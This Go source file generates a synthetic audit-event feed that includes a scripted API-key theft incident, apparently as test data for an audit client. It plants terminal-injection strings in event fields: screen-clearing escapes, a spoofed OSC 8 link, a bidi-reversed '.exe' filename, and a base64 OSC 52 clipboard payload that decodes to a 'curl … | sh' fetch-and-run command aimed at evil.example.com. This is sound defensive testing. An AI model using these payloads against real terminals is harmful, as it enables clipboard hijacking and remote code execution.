package sim

import (
	"time"

	"claudit/feed"
)

// Scenario names the well-known ids and times of the generated story, for
// tests, the demo and the README. The story is in every dataset with at
// least 1000 events.
//
// The story: alice (Users[0], primary owner) creates a Compliance Access
// Key for the SIEM (LeakedKeyID), renames it, and the SIEM uses it from the
// office. At IncidentStart someone at AttackerIP fails a few sign-ins and
// then uses that key to list users and read chats and files. bob
// (Users[1], DeactivatedBy) deactivates the key, deletes an old scoped key,
// an admin key revokes a Console key, a service key is revoked and the
// admin key used for the clean-up is retired.
type Scenario struct {
	Org1ID, Org1UUID, Org2ID, Org2UUID string
	IncidentStart                      time.Time // the incident burst (last few hours before End)
	LeakedKeyID                        string    // apikey_… used from AttackerIP during the incident (api_actor events), later deactivated
	DeactivatedKeyID                   string    // a scoped key deactivated via scoped_api_key_updated activation_state active→inactive (the leaked key)
	DeactivatedBy                      string    // e-mail of who deactivated it
	DeletedScopedKeyID                 string    // deleted via scoped_api_key_deleted
	RevokedConsoleKeyID                string    // platform_api_key_updated status active→inactive by an admin_api_key_actor
	AdminKeyID                         string    // an admin key created and later deleted (admin_api_key_created/_deleted); it revokes the Console key
	ServiceKeyID                       string    // service_key_created then service_key_revoked
	AttackerIP                         string
	Users                              []string // e-mails of the generated users
	UserIDs                            []string
}

// Hostile strings placed in the story: a client that prints them raw lets
// the event drive the analyst's terminal.
const (
	hostileCSI      = "\x1b[31mERROR\x1b[0m\x1b[2J\x1b[Hcurl/8.0"
	hostileOSC52    = "Mozilla/5.0 \x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS5jb20vcHduIHwgc2g=\x07(Windows NT 10.0)"
	hostileOSC8     = "\x1b]8;;https://evil.example.com/\x1b\\dana.contractor@example.com\x1b]8;;\x1b\\"
	hostileC1       = "\u009b31mRed Team\u009b0m"
	hostileBidi     = "invoice\u202egpj.exe"
	hostileZeroSpan = "ad\u200bmin@example.com"
)

// story appends the Scenario events. Offsets are given for a 24-hour
// story and shrink with a shorter Span, so the story always fits.
func (g *generator) story(out []event, start, end, incident int64) []event {
	w := g.w
	s := &w.scenario
	scale := float64(min(end-start, 24*hour)) / float64(24*hour)
	at := func(before time.Duration) int64 {
		t := end - int64(float64(before)*scale)
		return t - t%second
	}
	// after is an offset from the incident, shrunk like the others so that
	// the response stays in order, after the theft and before End.
	after := func(d time.Duration) int64 { return incident + int64(float64(d)*scale) }
	add := func(t int64, typ string, org int, a *actor, fields func([]byte) []byte) {
		out = append(out, g.emit(max(start, min(end, t)), typ, org, a, fields))
	}
	alice, bob := g.userActor(0), g.userActor(1)
	alice.ip, alice.ua = w.users[0].ips[0], w.users[0].uas[0]
	bob.ip, bob.ua = w.users[1].ips[0], w.users[1].uas[0]
	consoleOrg := min(1, len(w.orgs)-1)

	// Keys created before the incident.
	add(start+(end-start)/5, "api_key_created", 0, &alice, apiKeyCreated(s.DeletedScopedKeyID, ScopeActivities))
	add(start+(end-start)/3, "api_key_created", 0, &alice, apiKeyCreated(w.reactivatedID, ScopeActivities, ScopeOrgData))
	// The admin key belongs to the organisation of the Console key it
	// revokes: Admin API keys are per organisation.
	add(at(23*time.Hour), "admin_api_key_created", consoleOrg, &alice, func(b []byte) []byte {
		b = appendStrField(b, "admin_api_key_id", s.AdminKeyID)
		return append(b, `,"scopes":[]`...)
	})
	add(at(22*time.Hour+30*time.Minute), "api_key_created", 0, &alice, apiKeyCreated(s.LeakedKeyID, ScopeActivities, ScopeUserData))
	add(at(22*time.Hour), "scoped_api_key_updated", 0, &alice, keyUpdate("api_key_id", s.LeakedKeyID, "name", "SIEM export", "SIEM export (prod)"))
	add(at(20*time.Hour), "platform_api_key_created", consoleOrg, &bob, func(b []byte) []byte {
		return appendStrField(b, "api_key_id", s.RevokedConsoleKeyID)
	})
	add(at(18*time.Hour), "service_key_created", 0, &alice, func(b []byte) []byte {
		b = appendBoolField(b, "is_service_created", false)
		b = appendStrField(b, "key_name", "slack-connector")
		b = appendStrField(b, "service_name", "slack")
		b = appendKey(b, "scopes", false)
		b = appendStrings(b, []string{"read:chats"})
		return appendStrField(b, "service_key_id", s.ServiceKeyID)
	})
	carol := g.userActor(min(2, len(w.users)-1))
	add(at(10*time.Hour), "scoped_api_key_updated", 0, &carol, keyUpdate("api_key_id", w.reactivatedID, "activation_state", "active", "inactive"))
	add(at(9*time.Hour+50*time.Minute), "scoped_api_key_updated", 0, &carol, keyUpdate("api_key_id", w.reactivatedID, "activation_state", "inactive", "active"))

	// The leaked key in normal use, from the SIEM host.
	siem2 := actor{kind: feed.ActorAPI, id1: s.LeakedKeyID, ip: "198.51.100.21", ua: siemUA}
	for d := 21 * time.Hour; d > 4*time.Hour; d -= 45 * time.Minute {
		t := at(d)
		url := "/v1/compliance/activities?created_at.gte=" + time.Unix(0, t-46*minute).UTC().Format(time.RFC3339) + "&limit=5000"
		add(t, "compliance_api_accessed", -1, &siem2, complianceFields(g.requestID(), "GET", 200, url))
	}

	// The incident: failed sign-ins, then the key from an unknown address.
	for i := range 4 {
		victim := w.users[i%len(w.users)]
		anon := actor{kind: feed.ActorUnauthenticatedUser, email: victim.email, ip: attackerIP, ua: "python-requests/2.31.0"}
		add(incident-15*minute+int64(i)*7*second, "sso_login_failed", -1, &anon, nil)
	}
	thief := actor{kind: feed.ActorAPI, id1: s.LeakedKeyID, ip: attackerIP, ua: "python-requests/2.31.0"}
	urls := []struct {
		method, url string
		status      int
	}{
		{"GET", "/v1/compliance/organizations", 403},
		{"GET", "/v1/compliance/organizations/" + s.Org1UUID + "/users?limit=1000", 200},
		{"GET", "/v1/compliance/activities?limit=5000", 200},
		{"GET", "/v1/compliance/apps/chats?user_ids[]=" + s.UserIDs[0], 200},
		{"GET", "/v1/compliance/apps/chats/" + g.poolID("claude_chat_") + "/messages", 200},
		{"GET", "/v1/compliance/apps/files/" + g.poolID("claude_file_") + "/content", 200},
		{"DELETE", "/v1/compliance/apps/chats/" + g.poolID("claude_chat_"), 403},
	}
	t := incident
	for i := range 30 {
		u := urls[i%len(urls)]
		add(t, "compliance_api_accessed", -1, &thief, complianceFields(g.requestID(), u.method, u.status, u.url))
		if i%5 != 4 { // bursts: several requests in one second
			t += int64(float64(int64(g.rng.IntN(2))*second) * scale)
		} else {
			t += int64(float64(20*second+g.rng.Int64N(70*second)) * scale)
		}
	}
	for i := range 6 {
		typ := "claude_chat_viewed"
		if i%2 == 1 {
			typ = "claude_file_viewed"
		}
		add(after(time.Duration(i+1)*3*time.Minute+500*time.Millisecond), typ, 0, &thief, nil)
	}

	// The response.
	add(after(50*time.Minute), "scoped_api_key_updated", 0, &bob, keyUpdate("api_key_id", s.LeakedKeyID, "activation_state", "active", "inactive"))
	add(after(55*time.Minute), "scoped_api_key_deleted", 0, &bob, func(b []byte) []byte {
		b = appendStrField(b, "api_key_id", s.DeletedScopedKeyID)
		b = appendStrField(b, "api_key_name", w.deletedName)
		b = appendKey(b, "scopes", false)
		return appendStrings(b, []string{ScopeActivities})
	})
	adminKey := actor{kind: feed.ActorAdminAPIKey, id1: s.AdminKeyID, ip: toolsIP, ua: "curl/8.7.1"}
	add(after(60*time.Minute), "platform_api_key_updated", consoleOrg, &adminKey, keyUpdate("api_key_id", s.RevokedConsoleKeyID, "status", "active", "inactive"))
	add(after(65*time.Minute), "service_key_revoked", 0, &alice, func(b []byte) []byte {
		b = appendStrField(b, "service_key_id", s.ServiceKeyID)
		return appendStrField(b, "service_name", "slack")
	})
	add(after(70*time.Minute), "admin_api_key_updated", consoleOrg, &alice, keyUpdate("admin_api_key_id", s.AdminKeyID, "name", "incident-response", "incident-response (retired)"))
	add(after(75*time.Minute), "admin_api_key_deleted", consoleOrg, &alice, func(b []byte) []byte {
		return appendStrField(b, "admin_api_key_id", s.AdminKeyID)
	})

	// Hostile strings in user agents, names and e-mail-ish fields.
	add(at(12*time.Hour), "sso_login_failed", -1, &actor{kind: feed.ActorUnauthenticatedUser, email: hostileZeroSpan, ip: "192.0.2.200", ua: hostileCSI}, nil)
	user5 := g.userActor(min(5, len(w.users)-1))
	user5.ua = hostileOSC52
	add(at(11*time.Hour), "claude_chat_viewed", 0, &user5, func(b []byte) []byte {
		return appendStrField(b, "claude_chat_id", g.poolID("claude_chat_"))
	})
	user6 := g.userActor(min(6, len(w.users)-1))
	add(at(9*time.Hour), "claude_file_uploaded", 0, &user6, func(b []byte) []byte {
		b = appendStrField(b, "claude_file_id", g.poolID("claude_file_"))
		return appendStrField(b, "filename", hostileBidi)
	})
	add(at(8*time.Hour), "org_user_invite_sent", 0, &alice, func(b []byte) []byte {
		b = appendStrField(b, "invited_email", hostileOSC8)
		return appendStrField(b, "invited_role", "user")
	})
	add(at(7*time.Hour), "group_created", 0, &carol, func(b []byte) []byte {
		b = appendStrField(b, "group_id", g.poolID("rbac_group_"))
		return appendStrField(b, "group_name", hostileC1)
	})
	add(at(6*time.Hour), "sso_login_initiated", -1, &actor{kind: feed.ActorUnauthenticatedUser, ip: "192.0.2.201", ua: w.hostileUA}, nil)

	// A type from the future, with an actor variant no client knows.
	add(at(5*time.Hour), futureType, 0, &actor{kind: robotActor, id1: w.robotID, id2: "7.3.1"}, func(b []byte) []byte {
		b = appendStrField(b, "quantum_widget_id", taggedID("quantum_widget_", g.rng.Uint64(), g.rng.Uint64()))
		return appendIntField(b, "entanglement_level", 7)
	})

	// Every documented actor variant at least once.
	variantTypes := map[string]string{
		feed.ActorAnthropic:         "claude_published_artifact_deleted",
		feed.ActorSCIM:              "scim_user_updated",
		feed.ActorSystem:            "claude_chat_deleted",
		feed.ActorServiceAccount:    "platform_workspace_members_listed",
		feed.ActorFederatedIdentity: "platform_federated_authentication",
		feed.ActorFederated:         "platform_cost_report_viewed",
		feed.ActorAttestedDevice:    "platform_app_attest_authentication",
	}
	for i, v := range feed.ActorTypes {
		typ, ok := variantTypes[v]
		if !ok || !g.byName[typ].allows(v) {
			continue // already in the story, or the catalogue changed; the tests will tell
		}
		t := at(14*time.Hour) + int64(i)*minute
		a := g.randomActor(v, t)
		add(t, typ, 0, &a, nil)
	}

	// The newest event is the SIEM's latest poll, at End exactly.
	return append(out, g.siemPoll(end, 0))
}

// requestID is a fresh req_… id.
func (g *generator) requestID() string {
	return taggedID("req_", g.rng.Uint64(), g.rng.Uint64())
}

// apiKeyCreated are the fields of api_key_created.
func apiKeyCreated(id string, scopes ...string) func([]byte) []byte {
	return func(b []byte) []byte {
		b = appendStrField(b, "api_key_id", id)
		b = appendKey(b, "scopes", false)
		b = appendStrings(b, scopes)
		return appendBoolField(b, "restricted_to_organization", false)
	}
}

// keyUpdate are the fields of a *_key_updated event with one update.
func keyUpdate(idField, id, what, prev, cur string) func([]byte) []byte {
	return func(b []byte) []byte {
		b = appendStrField(b, idField, id)
		b = append(b, `,"updates":[{"type":`...)
		b = appendString(b, what)
		b = appendStrField(b, "previous_value", prev)
		b = appendStrField(b, "current_value", cur)
		return append(b, "}]"...)
	}
}
